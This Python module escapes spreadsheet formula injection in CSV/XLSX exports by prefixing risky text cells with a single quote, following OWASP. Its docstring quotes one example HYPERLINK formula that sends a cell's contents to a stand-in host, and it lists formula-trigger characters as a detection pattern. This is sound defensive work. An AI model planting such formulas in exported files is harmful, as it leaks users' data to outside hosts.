"""Text cells safe to open in a spreadsheet: answers that would run as formulas are written as text.

Answers come from tablets, and labels from forms made by others. Excel, LibreOffice and Google Sheets evaluate a cell
that starts with `=`, `+`, `-` or `@` as a formula (tab and carriage return in front are skipped by some of them), so
an answer such as `=HYPERLINK("http://x/?"&A1, "open")` would run when a CSV or XLSX we wrote is opened. OWASP's rule
("CSV injection"): put a single quote in front of such a cell; spreadsheets then show it as text.

Only text cells are changed. Numbers are data, not formulas: a numeric column is never touched, and a text cell that
is one plain number (`-5`, `+7.5`, `-1e3`) is kept as it is, since a spreadsheet reads it as that number and nothing
runs. Parquet, .sav and .dta keep every value exactly; only files meant for spreadsheets go through here.
"""

from __future__ import annotations

import re
from typing import Any

import numpy as np
import pandas as pd

# OWASP's list of characters that start a formula (tab and carriage return included).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
# Quoted in front of such a cell (OWASP); spreadsheets show the rest as text.
TEXT_PREFIX = "'"
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def safe_cell(value: Any) -> Any:
    """The value as a spreadsheet cell: text starting a formula gets TEXT_PREFIX, everything else is unchanged.

    Parameters:
        value: any cell value; only `str` values are changed.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(value):
        return TEXT_PREFIX + value
    return value


def safe_row(values: list[Any] | tuple[Any, ...]) -> list[Any]:
    """Every cell of a row through `safe_cell`."""
    return [safe_cell(v) for v in values]


def safe_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells are safe (see `safe_cell`); numeric, date and boolean columns are kept.

    Parameters:
        frame: the table to write as CSV; it is not changed.
    """
    changed: dict[int, pd.Series] = {}
    for position, (_, column) in enumerate(frame.items()):
        if not (pd.api.types.is_object_dtype(column.dtype) or pd.api.types.is_string_dtype(column.dtype)):
            continue
        try:
            starts = column.str.startswith(FORMULA_STARTS, na=False).to_numpy(dtype=bool)
        except AttributeError:  # an object column without any text (codes as Python ints)
            continue
        rows = np.flatnonzero(starts)
        if not len(rows):
            continue
        candidates = column.iloc[rows]
        rows = rows[~candidates.str.fullmatch(_PLAIN_NUMBER.pattern, na=False).to_numpy(dtype=bool)]
        if len(rows):
            fixed = column.copy()
            fixed.iloc[rows] = TEXT_PREFIX + column.iloc[rows].astype(str)
            changed[position] = fixed
    if not changed:
        return frame
    result = frame.copy()
    for position, column in changed.items():
        result.isetitem(position, column)  # type: ignore[arg-type]  # pandas-stubs omit Series, which isetitem takes
    return result
